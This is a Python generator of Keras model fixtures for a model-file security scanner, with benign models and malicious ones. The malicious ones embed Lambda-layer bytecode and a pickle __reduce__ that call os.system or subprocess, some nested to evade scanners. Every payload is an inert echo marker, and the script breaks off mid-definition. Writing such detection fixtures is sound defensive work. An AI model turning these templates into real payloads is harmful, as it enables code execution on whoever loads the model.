#!/usr/bin/python3
"""Writes the Keras fixtures of testdata/keras (see ../README.md).

Keras is not installed here, so the files are built the way Keras writes them:

* .keras (Keras 3, keras/src/saving/saving_lib.py _save_model_to_fileobj): a
  ZIP_STORED zip whose members are, in order, metadata.json and config.json
  (written with zf.open(name, "w"): date 1980-01-01, mode 0600) then
  model.weights.h5 (H5IOStore: writestr of an in-memory h5 file), then
  assets/ if any. config.json is json.dumps(serialize_keras_object(model))
  (default separators); metadata.json is {"keras_version", "date_saved"}.
* .h5 (tf.keras 2.x, tf_keras/saving/legacy/hdf5_format.py save_model_to_hdf5):
  root attributes keras_version and backend (Python str: h5py 3 stores a
  variable-length UTF-8 string), model_config and training_config
  (json.dumps(...).encode("utf8"), bytes: h5py 3 stores a variable-length
  ASCII string), a model_weights group (layer_names as a list of bytes,
  backend and keras_version as bytes, one group per layer holding its
  weight_names and datasets) and optimizer_weights.

Every config is also written to configs/ so the Go tests can use it without
an HDF5 reader. Lambda payloads are real CPython 3.11 marshal bytes of
lambdas that call `echo hallmark-marker`; they are compiled, never called.
Deterministic: fixed seeds, fixed zip dates, fixed date_saved.

Run from the repository root:  /usr/bin/python3 testdata/keras/gen/make_keras.py
"""
import base64
import io
import json
import os
import pickle
import sys
import types
import zipfile

import h5py
import numpy as np

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
K3_VERSION = "3.10.0"  # a Keras 3 release before the 3.11 hardening: every fixture loads there
K2_VERSION = "2.15.0"
DATE_SAVED = "2025-03-04@10:20:30"
ZIP_DATE = (2025, 3, 4, 10, 20, 30)
MANIFEST = []


# ---------------------------------------------------------------- helpers

def code_b64(src):
    """func_dump's code string: base64 (with codecs' line breaks) of marshal(fn.__code__)."""
    module = compile(src, "<hallmark-fixture>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    import marshal
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


MARKER_LAMBDA = "lambda x: __import__('os').system('echo hallmark-marker') or x"
MARKER_LAMBDA2 = "lambda t, scale=2.0: __import__('subprocess').getoutput('echo hallmark-marker') and t * scale"


def policy(name="float32"):
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": name}, "registered_name": None}


def k3_init(cls, config=None):
    return {"module": "keras.initializers", "class_name": cls, "config": config if config is not None else {"seed": None},
            "registered_name": None}


def k3_layer(cls, config, build_shape=None, module="keras.layers", registered_name=None, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered_name}
    if build_shape is not None:
        d["build_config"] = {"input_shape": build_shape}
    d.update(extra)
    return d


def k3_dense(name, units, activation="linear", shape=None):
    return k3_layer("Dense", {
        "name": name, "trainable": True, "dtype": policy(), "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": k3_init("GlorotUniform"), "bias_initializer": k3_init("Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
    }, shape)


def k3_input(name, shape, dtype="float32"):
    return k3_layer("InputLayer", {"batch_shape": shape, "dtype": dtype, "sparse": False, "ragged": False, "name": name,
                                   "optional": False})


def k3_dropout(name, rate, shape=None):
    return k3_layer("Dropout", {"name": name, "trainable": True, "dtype": policy(), "rate": rate, "seed": None,
                                "noise_shape": None}, shape)


def k3_batchnorm(name, shape):
    return k3_layer("BatchNormalization", {
        "name": name, "trainable": True, "dtype": policy(), "axis": -1, "momentum": 0.99, "epsilon": 0.001,
        "center": True, "scale": True, "beta_initializer": k3_init("Zeros", {}),
        "gamma_initializer": k3_init("Ones", {}), "moving_mean_initializer": k3_init("Zeros", {}),
        "moving_variance_initializer": k3_init("Ones", {}), "beta_regularizer": None, "gamma_regularizer": None,
        "beta_constraint": None, "gamma_constraint": None, "synchronized": False}, shape)


def k3_lstm(name, units, shape, return_sequences=True, go_backwards=False):
    return k3_layer("LSTM", {
        "name": name, "trainable": True, "dtype": policy(), "return_sequences": return_sequences,
        "return_state": False, "go_backwards": go_backwards, "stateful": False, "unroll": False,
        "zero_output_for_mask": True, "units": units, "activation": "tanh", "recurrent_activation": "sigmoid",
        "use_bias": True, "kernel_initializer": k3_init("GlorotUniform"),
        "recurrent_initializer": k3_init("Orthogonal", {"seed": None, "gain": 1.0}),
        "bias_initializer": k3_init("Zeros", {}), "unit_forget_bias": True, "kernel_regularizer": None,
        "recurrent_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
        "kernel_constraint": None, "recurrent_constraint": None, "bias_constraint": None, "dropout": 0.0,
        "recurrent_dropout": 0.0, "seed": None}, shape)


def k3_lambda_layer(name, src, shape=None):
    return k3_layer("Lambda", {
        "name": name, "trainable": True, "dtype": policy(),
        "function": {"class_name": "__lambda__", "config": {"code": code_b64(src), "defaults": None, "closure": None}},
        "arguments": {}}, shape)


def keras_tensor(shape, history, dtype="float32"):
    return {"class_name": "__keras_tensor__", "config": {"shape": shape, "dtype": dtype, "keras_history": history}}


def node(*args, **kwargs):
    return {"args": list(args), "kwargs": kwargs}


def functional_entry(layer, inbound):
    """A layer in a Functional config: the layer dict plus name and inbound_nodes."""
    d = dict(layer)
    d["name"] = layer["config"]["name"] if isinstance(layer.get("config"), dict) and "name" in layer["config"] else d.get("name")
    d["inbound_nodes"] = inbound
    return d


def k3_adam():
    return {"module": "keras.optimizers", "class_name": "Adam", "config": {
        "name": "adam", "learning_rate": 0.0010000000474974513, "weight_decay": None, "clipnorm": None,
        "global_clipnorm": None, "clipvalue": None, "use_ema": False, "ema_momentum": 0.99,
        "ema_overwrite_frequency": None, "loss_scale_factor": None, "gradient_accumulation_steps": None,
        "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}, "registered_name": None}


def k3_compile(loss=None, metrics=("accuracy",)):
    if loss is None:
        loss = {"module": "keras.losses", "class_name": "SparseCategoricalCrossentropy", "config": {
            "name": "sparse_categorical_crossentropy", "reduction": "sum_over_batch_size", "from_logits": True,
            "ignore_class": None}, "registered_name": None}
    return {"optimizer": k3_adam(), "loss": loss, "loss_weights": None, "metrics": list(metrics),
            "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}


def k3_sequential(name, layers, input_shape, compile_config=None):
    d = {"module": "keras", "class_name": "Sequential", "config": {
        "name": name, "trainable": True, "dtype": policy(), "layers": layers, "build_input_shape": input_shape},
        "registered_name": None, "build_config": {"input_shape": input_shape}}
    if compile_config is not None:
        d["compile_config"] = compile_config
    return d


def k3_functional(name, layers, inputs, outputs, compile_config=None):
    d = {"module": "keras.src.models.functional", "class_name": "Functional", "config": {
        "name": name, "trainable": True, "layers": layers, "input_layers": inputs, "output_layers": outputs},
        "registered_name": "Functional", "build_config": {"input_shape": None}}
    if compile_config is not None:
        d["compile_config"] = compile_config
    return d


def weights_h5(groups, seed):
    """Keras 3 model.weights.h5 bytes: layers/<path>/vars/<i> datasets."""
    rng = np.random.RandomState(seed)
    bio = io.BytesIO()
    with h5py.File(bio, "w") as f:
        for path, shapes in groups:
            g = f.create_group(path + "/vars")
            for i, shape in enumerate(shapes):
                g.create_dataset(str(i), data=rng.standard_normal(shape).astype("float32"))
        f.create_group("optimizer/vars").create_dataset("0", data=np.int64(0))
        f.create_group("vars")
    return bio.getvalue()


def write_keras(rel, config, weights, extra_members=(), config_bytes=None):
    path = os.path.join(ROOT, rel)
    cfg = config_bytes if config_bytes is not None else json.dumps(config).encode()
    meta = json.dumps({"keras_version": K3_VERSION, "date_saved": DATE_SAVED}).encode()
    with open(path, "wb") as fh, zipfile.ZipFile(fh, "w") as zf:
        for name, data in [("metadata.json", meta), ("config.json", cfg)]:
            zi = zipfile.ZipInfo(name)  # what zf.open(name, "w") uses
            zi.external_attr = 0o600 << 16
            zf.writestr(zi, data)
        for name, data in [("model.weights.h5", weights)] + list(extra_members):
            zi = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            zi.external_attr = 0o600 << 16
            zf.writestr(zi, data)
    stem = os.path.basename(rel)
    with open(os.path.join(ROOT, "configs", stem + ".config.json"), "wb") as fh:
        fh.write(cfg)


def write_h5(rel, model_config, training_config, layer_weights, seed, optimizer_names=()):
    path = os.path.join(ROOT, rel)
    rng = np.random.RandomState(seed)
    mc = json.dumps(model_config).encode("utf8")
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = K2_VERSION
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = mc
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config).encode("utf8")
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = [name.encode("utf8") for name, _ in layer_weights]
        mw.attrs["backend"] = "tensorflow".encode("utf8")
        mw.attrs["keras_version"] = K2_VERSION.encode("utf8")
        for name, weights in sorted(layer_weights):
            g = mw.create_group(name)
            g.attrs["weight_names"] = [w.encode("utf8") for w, _ in weights]
            for wname, shape in weights:
                g.create_dataset(wname, data=rng.standard_normal(shape).astype("float32"))
        top = mw.create_group("top_level_model_weights")
        top.attrs["weight_names"] = []
        if optimizer_names:
            og = f.create_group("optimizer_weights")
            og.attrs["weight_names"] = [n.encode("utf8") for n, _ in optimizer_names]
            for n, shape in optimizer_names:
                og.create_dataset(n, data=np.zeros(shape, dtype="int64" if shape == () else "float32"))
    stem = os.path.basename(rel)
    with open(os.path.join(ROOT, "configs", stem + ".model_config.json"), "wb") as fh:
        fh.write(mc)
    if training_config is not None:
        with open(os.path.join(ROOT, "configs", stem + ".training_config.json"), "wb") as fh:
            fh.write(json.dumps(training_config).encode("utf8"))


def add(file, kind, trick, sev, expect, note):
    MANIFEST.append({"file": file, "kind": kind, "trick": trick, "expect_min_severity": sev, "expect": expect,
                     "note": note})


# ---------------------------------------------------------------- Keras 2 (tf.keras) helpers

def k2_init(cls, config=None):
    return {"class_name": cls, "config": config if config is not None else {"seed": None}}


def k2_dense(name, units, activation="linear", batch_input_shape=None):
    c = {"name": name, "trainable": True, "dtype": "float32"}
    if batch_input_shape is not None:
        c["batch_input_shape"] = batch_input_shape
    c.update({"units": units, "activation": activation, "use_bias": True,
              "kernel_initializer": k2_init("GlorotUniform"), "bias_initializer": k2_init("Zeros", {}),
              "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
              "kernel_constraint": None, "bias_constraint": None})
    return {"class_name": "Dense", "config": c}


def k2_input(name, shape):
    return {"class_name": "InputLayer", "config": {"batch_input_shape": shape, "dtype": "float32", "sparse": False,
                                                   "ragged": False, "name": name}}


def k2_lambda(name, src, module="__main__"):
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": [code_b64(src), None, None],
        "function_type": "lambda", "module": module, "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}


def k2_training_config(loss=None):
    if loss is None:
        loss = {"class_name": "SparseCategoricalCrossentropy", "config": {
            "reduction": "auto", "name": "sparse_categorical_crossentropy", "from_logits": True, "ignore_class": None}}
    return {"loss": loss, "metrics": [[{"class_name": "MeanMetricWrapper", "config": {
        "name": "accuracy", "dtype": "float32", "fn": "sparse_categorical_accuracy"}}]],
            "weighted_metrics": None, "loss_weights": None, "optimizer_config": {"class_name": "Custom>Adam", "config": {
                "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
                "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None, "jit_compile": False,
                "is_legacy_optimizer": False, "learning_rate": 0.0010000000474974513, "beta_1": 0.9,
                "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}}}


def k2_sequential(name, layers):
    return {"class_name": "Sequential", "config": {"name": name, "layers": layers}}


def adam_slots(layer_weights):
    names = [("iteration:0", ())]
    for lname, ws in layer_weights:
        for w, shape in ws:
            var = w.split(":")[0].replace(lname + "/", "", 1)
            names.append((f"Adam/m/{lname}/{var}:0", shape))
            names.append((f"Adam/v/{lname}/{var}:0", shape))
    return names


# ---------------------------------------------------------------- benign

def benign():
    # 1. Sequential MLP, compiled with Adam + SparseCategoricalCrossentropy.
    seq = k3_sequential("sequential", [
        k3_input("input_layer", [None, 20]),
        k3_dense("dense", 16, "relu", [None, 20]),
        k3_dropout("dropout", 0.2, [None, 16]),
        k3_dense("dense_1", 4, "linear", [None, 16]),
    ], [None, 20], k3_compile())
    write_keras("benign/sequential_mlp.keras", seq,
                weights_h5([("layers/dense", [(20, 16), (16,)]), ("layers/dense_1", [(16, 4), (4,)])], 1))
    add("benign/sequential_mlp.keras", "benign", "Keras 3 Sequential MLP", "low", "",
        "Sequential(Input, Dense relu, Dropout, Dense) compiled with Adam + SparseCategoricalCrossentropy; Keras 3.10 layout")

    # 2. Functional with a nested Sequential block and BatchNormalization.
    block = k3_sequential("feature_block", [
        k3_dense("block_dense", 16, "relu", [None, 12]),
        k3_batchnorm("block_bn", [None, 16]),
        k3_dropout("block_dropout", 0.1, [None, 16]),
    ], [None, 12])
    block["build_config"] = {"input_shape": [None, 12]}
    layers = [
        functional_entry(k3_input("features", [None, 12]), []),
        functional_entry(block, [node(keras_tensor([None, 12], ["features", 0, 0]))]),
        functional_entry(k3_dense("head", 3, "softmax", [None, 16]),
                         [node(keras_tensor([None, 16], ["feature_block", 0, 0]))]),
    ]
    func = k3_functional("classifier", layers, [["features", 0, 0]], [["head", 0, 0]], k3_compile(
        loss={"module": "keras.losses", "class_name": "CategoricalCrossentropy", "config": {
            "name": "categorical_crossentropy", "reduction": "sum_over_batch_size", "from_logits": False,
            "label_smoothing": 0.0, "axis": -1}, "registered_name": None},
        metrics=[{"module": "keras.metrics", "class_name": "CategoricalAccuracy", "config": {
            "name": "categorical_accuracy", "dtype": "float32"}, "registered_name": None}]))
    write_keras("benign/functional_nested_sequential.keras", func, weights_h5([
        ("layers/feature_block/layers/block_dense", [(12, 16), (16,)]),
        ("layers/feature_block/layers/block_bn", [(16,), (16,), (16,), (16,)]),
        ("layers/head", [(16, 3), (3,)])], 2))
    add("benign/functional_nested_sequential.keras", "benign", "Functional with nested Sequential", "low", "",
        "Functional model whose middle layer is a Sequential (Dense, BatchNormalization, Dropout); CategoricalCrossentropy + CategoricalAccuracy objects")

    # 3. Sequence tagger: Embedding, Bidirectional(LSTM), TimeDistributed(Dense).
    bidi = k3_layer("Bidirectional", {
        "name": "bidirectional", "trainable": True, "dtype": policy(), "merge_mode": "concat",
        "layer": k3_lstm("forward_lstm", 8, [None, 10, 16]),
        "backward_layer": k3_lstm("backward_lstm", 8, [None, 10, 16], go_backwards=True)}, [None, 10, 16])
    td = k3_layer("TimeDistributed", {"name": "time_distributed", "trainable": True, "dtype": policy(),
                                      "layer": k3_dense("tag_dense", 5, "softmax", [None, 16])}, [None, 10, 16])
    emb = k3_layer("Embedding", {
        "name": "embedding", "trainable": True, "dtype": policy(), "input_dim": 100, "output_dim": 16,
        "embeddings_initializer": k3_init("RandomUniform", {"seed": None, "minval": -0.05, "maxval": 0.05}),
        "embeddings_regularizer": None, "activity_regularizer": None, "embeddings_constraint": None,
        "mask_zero": True}, [None, 10])
    tagger = k3_sequential("tagger", [k3_input("tokens", [None, 10], "int32"), emb, bidi, td], [None, 10],
                           k3_compile(metrics=["accuracy"]))
    write_keras("benign/lstm_bidirectional_timedistributed.keras", tagger, weights_h5([
        ("layers/embedding", [(100, 16)]),
        ("layers/bidirectional/forward_layer/cell", [(16, 32), (8, 32), (32,)]),
        ("layers/bidirectional/backward_layer/cell", [(16, 32), (8, 32), (32,)]),
        ("layers/time_distributed/layer", [(16, 5), (5,)])], 3))
    add("benign/lstm_bidirectional_timedistributed.keras", "benign", "Bidirectional LSTM + TimeDistributed", "low", "",
        "Embedding(mask_zero), Bidirectional(LSTM) with explicit backward_layer, TimeDistributed(Dense): nested layer/backward_layer keys")

    # 4. keras_hub text classifier: registered keras_hub layers.
    def hub(cls, module, config, shape):
        return k3_layer(cls, config, shape, module=module, registered_name="keras_hub>" + cls)
    tok_emb = hub("TokenAndPositionEmbedding", "keras_hub.src.layers.modeling.token_and_position_embedding", {
        "name": "token_and_position_embedding", "trainable": True, "dtype": policy(), "vocabulary_size": 50,
        "sequence_length": 8, "embedding_dim": 16, "embeddings_initializer": "uniform", "mask_zero": False},
        [None, 8])
    enc = hub("TransformerEncoder", "keras_hub.src.layers.modeling.transformer_encoder", {
        "name": "transformer_encoder", "trainable": True, "dtype": policy(), "intermediate_dim": 32,
        "num_heads": 2, "dropout": 0.1, "activation": "relu", "layer_norm_epsilon": 1e-05,
        "kernel_initializer": k3_init("GlorotUniform"), "bias_initializer": k3_init("Zeros", {}),
        "normalize_first": False}, [None, 8, 16])
    pool = k3_layer("GlobalAveragePooling1D", {"name": "global_average_pooling1d", "trainable": True,
                                               "dtype": policy(), "data_format": "channels_last", "keepdims": False},
                    [None, 8, 16])
    layers = [
        functional_entry(k3_input("token_ids", [None, 8], "int32"), []),
        functional_entry(tok_emb, [node(keras_tensor([None, 8], ["token_ids", 0, 0], "int32"))]),
        functional_entry(enc, [node(keras_tensor([None, 8, 16], ["token_and_position_embedding", 0, 0]))]),
        functional_entry(pool, [node(keras_tensor([None, 8, 16], ["transformer_encoder", 0, 0]))]),
        functional_entry(k3_dense("logits", 2, "linear", [None, 16]),
                         [node(keras_tensor([None, 16], ["global_average_pooling1d", 0, 0]))]),
    ]
    write_keras("benign/keras_hub_text_classifier.keras",
                k3_functional("text_classifier", layers, [["token_ids", 0, 0]], [["logits", 0, 0]], k3_compile()),
                weights_h5([("layers/token_and_position_embedding", [(50, 16), (8, 16)]),
                            ("layers/logits", [(16, 2), (2,)])], 4))
    add("benign/keras_hub_text_classifier.keras", "benign", "registered keras_hub layers", "low", "",
        "Functional text classifier with keras_hub>TokenAndPositionEmbedding and keras_hub>TransformerEncoder (custom but installed library objects)")

    # 5. CNN whose loss is a plain function (Keras 3 writes builtins/function/<name>).
    conv = k3_layer("Conv2D", {
        "name": "conv2d", "trainable": True, "dtype": policy(), "filters": 4, "kernel_size": [3, 3],
        "strides": [1, 1], "padding": "valid", "data_format": "channels_last", "dilation_rate": [1, 1],
        "groups": 1, "activation": "relu", "use_bias": True, "kernel_initializer": k3_init("HeNormal"),
        "bias_initializer": k3_init("Zeros", {}), "kernel_regularizer": {
            "module": "keras.regularizers", "class_name": "L2", "config": {"l2": 0.0001}, "registered_name": None},
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None},
        [None, 8, 8, 1])
    pool = k3_layer("MaxPooling2D", {"name": "max_pooling2d", "trainable": True, "dtype": policy(),
                                     "pool_size": [2, 2], "padding": "valid", "strides": [2, 2],
                                     "data_format": "channels_last"})
    flat = k3_layer("Flatten", {"name": "flatten", "trainable": True, "dtype": policy(),
                                "data_format": "channels_last"})
    cnn = k3_sequential("cnn", [k3_input("image", [None, 8, 8, 1]), conv, pool, flat,
                                k3_dense("out", 1, "sigmoid", [None, 36])], [None, 8, 8, 1],
                        k3_compile(loss={"module": "builtins", "class_name": "function",
                                         "config": "binary_crossentropy", "registered_name": "function"},
                                   metrics=[{"module": "builtins", "class_name": "function",
                                             "config": "binary_accuracy", "registered_name": "function"}]))
    write_keras("benign/cnn_function_loss.keras", cnn, weights_h5([
        ("layers/conv2d", [(3, 3, 1, 4), (4,)]), ("layers/out", [(36, 1), (1,)])], 5))
    add("benign/cnn_function_loss.keras", "benign", "builtins/function loss reference", "low", "",
        "Conv2D/MaxPooling2D/Flatten CNN compiled with loss=keras.losses.binary_crossentropy as a function: Keras 3 writes {module: builtins, class_name: function, config: binary_crossentropy}")

    # 6-8. tf.keras 2.15 .h5 files.
    mlp_w = [("dense", [("dense/kernel:0", (20, 16)), ("dense/bias:0", (16,))]),
             ("dense_1", [("dense_1/kernel:0", (16, 4)), ("dense_1/bias:0", (4,))])]
    write_h5("benign/sequential_mlp_tf215.h5", k2_sequential("sequential", [
        k2_input("dense_input", [None, 20]), k2_dense("dense", 16, "relu", [None, 20]),
        {"class_name": "Dropout", "config": {"name": "dropout", "trainable": True, "dtype": "float32", "rate": 0.2,
                                             "noise_shape": None, "seed": None}},
        k2_dense("dense_1", 4)]), k2_training_config(),
        [mlp_w[0], ("dropout", []), mlp_w[1]], 6, adam_slots(mlp_w))
    add("benign/sequential_mlp_tf215.h5", "benign", "tf.keras 2.15 Sequential .h5", "low", "",
        "legacy H5: model_config + training_config (SparseCategoricalCrossentropy, MeanMetricWrapper, optimizer registered as Custom>Adam as TF 2.11+ writes it)")

    lstm_cfg = {"name": "lstm", "trainable": True, "dtype": "float32", "return_sequences": True,
                "return_state": False, "go_backwards": False, "stateful": False, "unroll": False,
                "time_major": False, "units": 8, "activation": "tanh", "recurrent_activation": "sigmoid",
                "use_bias": True, "kernel_initializer": k2_init("GlorotUniform"),
                "recurrent_initializer": k2_init("Orthogonal", {"gain": 1.0, "seed": None}),
                "bias_initializer": k2_init("Zeros", {}), "unit_forget_bias": True, "kernel_regularizer": None,
                "recurrent_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
                "kernel_constraint": None, "recurrent_constraint": None, "bias_constraint": None,
                "dropout": 0.0, "recurrent_dropout": 0.0, "implementation": 2}
    fmc = {"class_name": "Functional", "config": {"name": "model", "trainable": True, "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 10], "dtype": "int32", "sparse": False,
                                                "ragged": False, "name": "tokens"}, "name": "tokens",
         "inbound_nodes": []},
        {"class_name": "Embedding", "config": {"name": "embedding", "trainable": True, "dtype": "float32",
                                               "batch_input_shape": [None, 10], "input_dim": 100, "output_dim": 16,
                                               "embeddings_initializer": k2_init("RandomUniform", {
                                                   "minval": -0.05, "maxval": 0.05, "seed": None}),
                                               "embeddings_regularizer": None, "activity_regularizer": None,
                                               "embeddings_constraint": None, "mask_zero": True,
                                               "input_length": None},
         "name": "embedding", "inbound_nodes": [[["tokens", 0, 0, {}]]]},
        {"class_name": "Bidirectional", "config": {"name": "bidirectional", "trainable": True, "dtype": "float32",
                                                   "layer": {"class_name": "LSTM", "config": lstm_cfg},
                                                   "merge_mode": "concat"},
         "name": "bidirectional", "inbound_nodes": [[["embedding", 0, 0, {}]]]},
        {"class_name": "TimeDistributed", "config": {"name": "time_distributed", "trainable": True,
                                                     "dtype": "float32", "layer": k2_dense("dense", 5, "softmax")},
         "name": "time_distributed", "inbound_nodes": [[["bidirectional", 0, 0, {}]]]},
    ], "input_layers": [["tokens", 0, 0]], "output_layers": [["time_distributed", 0, 0]]}}
    write_h5("benign/functional_lstm_tf215.h5", fmc, k2_training_config(), [
        ("tokens", []), ("embedding", [("embedding/embeddings:0", (100, 16))]),
        ("bidirectional", [("bidirectional/forward_lstm/lstm_cell/kernel:0", (16, 32)),
                           ("bidirectional/forward_lstm/lstm_cell/recurrent_kernel:0", (8, 32)),
                           ("bidirectional/forward_lstm/lstm_cell/bias:0", (32,)),
                           ("bidirectional/backward_lstm/lstm_cell/kernel:0", (16, 32)),
                           ("bidirectional/backward_lstm/lstm_cell/recurrent_kernel:0", (8, 32)),
                           ("bidirectional/backward_lstm/lstm_cell/bias:0", (32,))]),
        ("time_distributed", [("time_distributed/kernel:0", (16, 5)), ("time_distributed/bias:0", (5,))])], 7)
    add("benign/functional_lstm_tf215.h5", "benign", "tf.keras 2.15 Functional LSTM .h5", "low", "",
        "legacy H5 Functional: Embedding, Bidirectional(LSTM), TimeDistributed(Dense); inbound_nodes in the legacy list form")

    tfop = {"class_name": "Functional", "config": {"name": "model_1", "trainable": True, "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 6], "dtype": "float32", "sparse": False,
                                                "ragged": False, "name": "x"}, "name": "x", "inbound_nodes": []},
        {"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply", "trainable": True, "dtype": "float32",
                                                "function": "math.multiply"}, "name": "tf.math.multiply",
         "inbound_nodes": [["x", 0, 0, {"y": 0.5, "name": None}]]},
        {"class_name": "SlicingOpLambda", "config": {"name": "tf.__operators__.getitem", "trainable": True,
                                                     "dtype": "float32", "function": "__operators__.getitem"},
         "name": "tf.__operators__.getitem", "inbound_nodes": [["tf.math.multiply", 0, 0, {"slice_spec": {
             "class_name": "__tuple__", "items": [{"start": None, "stop": None, "step": None},
                                                  {"start": 0, "stop": 4, "step": None}]}}]]},
        {"class_name": "TFOpLambda", "config": {"name": "tf.math.reduce_sum", "trainable": True, "dtype": "float32",
                                                "function": "math.reduce_sum"}, "name": "tf.math.reduce_sum",
         "inbound_nodes": [["tf.__operators__.getitem", 0, 0, {"axis": -1, "keepdims": True}]]},
        dict(k2_dense("dense", 1), name="dense", inbound_nodes=[[["tf.math.reduce_sum", 0, 0, {}]]]),
    ], "input_layers": [["x", 0, 0]], "output_layers": [["dense", 0, 0]]}}
    write_h5("benign/tf_ops_tf215.h5", tfop, None, [
        ("x", []), ("tf.math.multiply", []), ("tf.__operators__.getitem", []), ("tf.math.reduce_sum", []),
        ("dense", [("dense/kernel:0", (1, 1)), ("dense/bias:0", (1,))])], 8)
    add("benign/tf_ops_tf215.h5", "benign", "TFOpLambda math ops", "low", "",
        "tf.keras Functional model built with tf.math ops: TFOpLambda/SlicingOpLambda layers naming tf symbols (info only); no training_config")

    # Serving model decoding base64 JPEG bytes in-graph: tf.io decode ops are pure tensor ops.
    def tfop_layer(name, fn, inbound, kw):
        return {"class_name": "TFOpLambda", "config": {"name": name, "trainable": True, "dtype": "float32",
                                                       "function": fn}, "name": name,
                "inbound_nodes": [[inbound, 0, 0, kw]]}
    serve = {"class_name": "Functional", "config": {"name": "image_serving", "trainable": True, "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [], "dtype": "string", "sparse": False,
                                                "ragged": False, "name": "image_b64"}, "name": "image_b64",
         "inbound_nodes": []},
        tfop_layer("tf.io.decode_base64", "io.decode_base64", "image_b64", {"name": None}),
        tfop_layer("tf.io.decode_jpeg", "io.decode_jpeg", "tf.io.decode_base64", {"channels": 3, "name": None}),
        tfop_layer("tf.image.resize", "image.resize", "tf.io.decode_jpeg", {"size": [224, 224], "name": None}),
        tfop_layer("tf.io.decode_raw", "io.decode_raw", "tf.image.resize", {"out_type": "uint8", "name": None}),
    ], "input_layers": [["image_b64", 0, 0]], "output_layers": [["tf.io.decode_raw", 0, 0]]}}
    write_h5("benign/tfop_decode_image_tf215.h5", serve, None, [
        ("image_b64", []), ("tf.io.decode_base64", []), ("tf.io.decode_jpeg", []), ("tf.image.resize", []),
        ("tf.io.decode_raw", [])], 9)
    add("benign/tfop_decode_image_tf215.h5", "benign", "TFOpLambda tf.io decode ops", "low", "",
        "tf.keras serving model with tf.io.decode_base64/decode_jpeg/decode_raw TFOpLambda layers: tf.io decode ops touch no files (red-team FP)")


# ---------------------------------------------------------------- malicious

class Marker:
    """Pickles as a call to os.system with an inert marker (never unpickled here)."""

    def __reduce__(self):
        return (os.system, ("echo hallmark-marker",))


def malicious():
    small_w = weights_h5([("layers/dense", [(4, 2), (2,)])], 20)

    # Lambda at the top level of a Keras 3 Sequential.
    write_keras("malicious/lambda_top.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 4]), k3_lambda_layer("lambda", MARKER_LAMBDA, [None, 4]),
        k3_dense("dense", 2, "linear", [None, 4])], [None, 4]), small_w)
    add("malicious/lambda_top.keras", "malicious", "Lambda layer (Keras 3)", "critical", "keras/lambda",
        "Lambda layer whose __lambda__ code is marshalled bytecode calling os.system (CVE-2024-3660; runs with safe_mode=False)")

    # Lambda at the top level of a tf.keras .h5.
    write_h5("malicious/lambda_top_tf215.h5", k2_sequential("sequential", [
        k2_input("lambda_input", [None, 4]), k2_lambda("lambda", MARKER_LAMBDA), k2_dense("dense", 2)]),
        k2_training_config(), [("lambda", []), ("dense", [("dense/kernel:0", (4, 2)), ("dense/bias:0", (2,))])], 21)
    add("malicious/lambda_top_tf215.h5", "malicious", "Lambda layer (legacy H5)", "critical", "keras/lambda",
        "legacy H5 Lambda: function = [base64 marshal, defaults, closure], function_type lambda (CVE-2024-3660, CVE-2025-9905: H5 loading ignored safe_mode)")

    # Lambda inside a Sequential inside a Functional.
    inner = k3_sequential("preprocess", [k3_dense("pre_dense", 4, "relu", [None, 4]),
                                         k3_lambda_layer("sneaky_lambda", MARKER_LAMBDA2, [None, 4])], [None, 4])
    layers = [functional_entry(k3_input("inputs", [None, 4]), []),
              functional_entry(inner, [node(keras_tensor([None, 4], ["inputs", 0, 0]))]),
              functional_entry(k3_dense("dense", 2, "linear", [None, 4]),
                               [node(keras_tensor([None, 4], ["preprocess", 0, 0]))])]
    write_keras("malicious/lambda_nested_functional.keras",
                k3_functional("functional", layers, [["inputs", 0, 0]], [["dense", 0, 0]]), small_w)
    add("malicious/lambda_nested_functional.keras", "malicious", "Lambda nested in Sequential in Functional",
        "critical", "keras/lambda",
        "scanners that only read top-level layers miss it (research §6.D D1); bytecode calls subprocess.getoutput")

    # Lambda wrapped by TimeDistributed (legacy H5).
    td = {"class_name": "TimeDistributed", "config": {"name": "time_distributed", "trainable": True,
                                                      "dtype": "float32", "layer": k2_lambda("lambda", MARKER_LAMBDA)}}
    write_h5("malicious/lambda_timedistributed_tf215.h5", k2_sequential("sequential", [
        k2_input("time_distributed_input", [None, 3, 4]), td, k2_dense("dense", 2)]), k2_training_config(),
        [("time_distributed", []), ("dense", [("dense/kernel:0", (4, 2)), ("dense/bias:0", (2,))])], 22)
    add("malicious/lambda_timedistributed_tf215.h5", "malicious", "Lambda inside TimeDistributed", "critical",
        "keras/lambda", "wrapper layer hides the Lambda one level down (config.layer); research §6.D D1")

    # Keras 3 generic __lambda__ object (serialization_lib form) as an activation.
    dense = k3_dense("dense", 2, None, [None, 4])
    dense["config"]["activation"] = {"class_name": "__lambda__", "config": {
        "value": [code_b64(MARKER_LAMBDA), None, None]}}
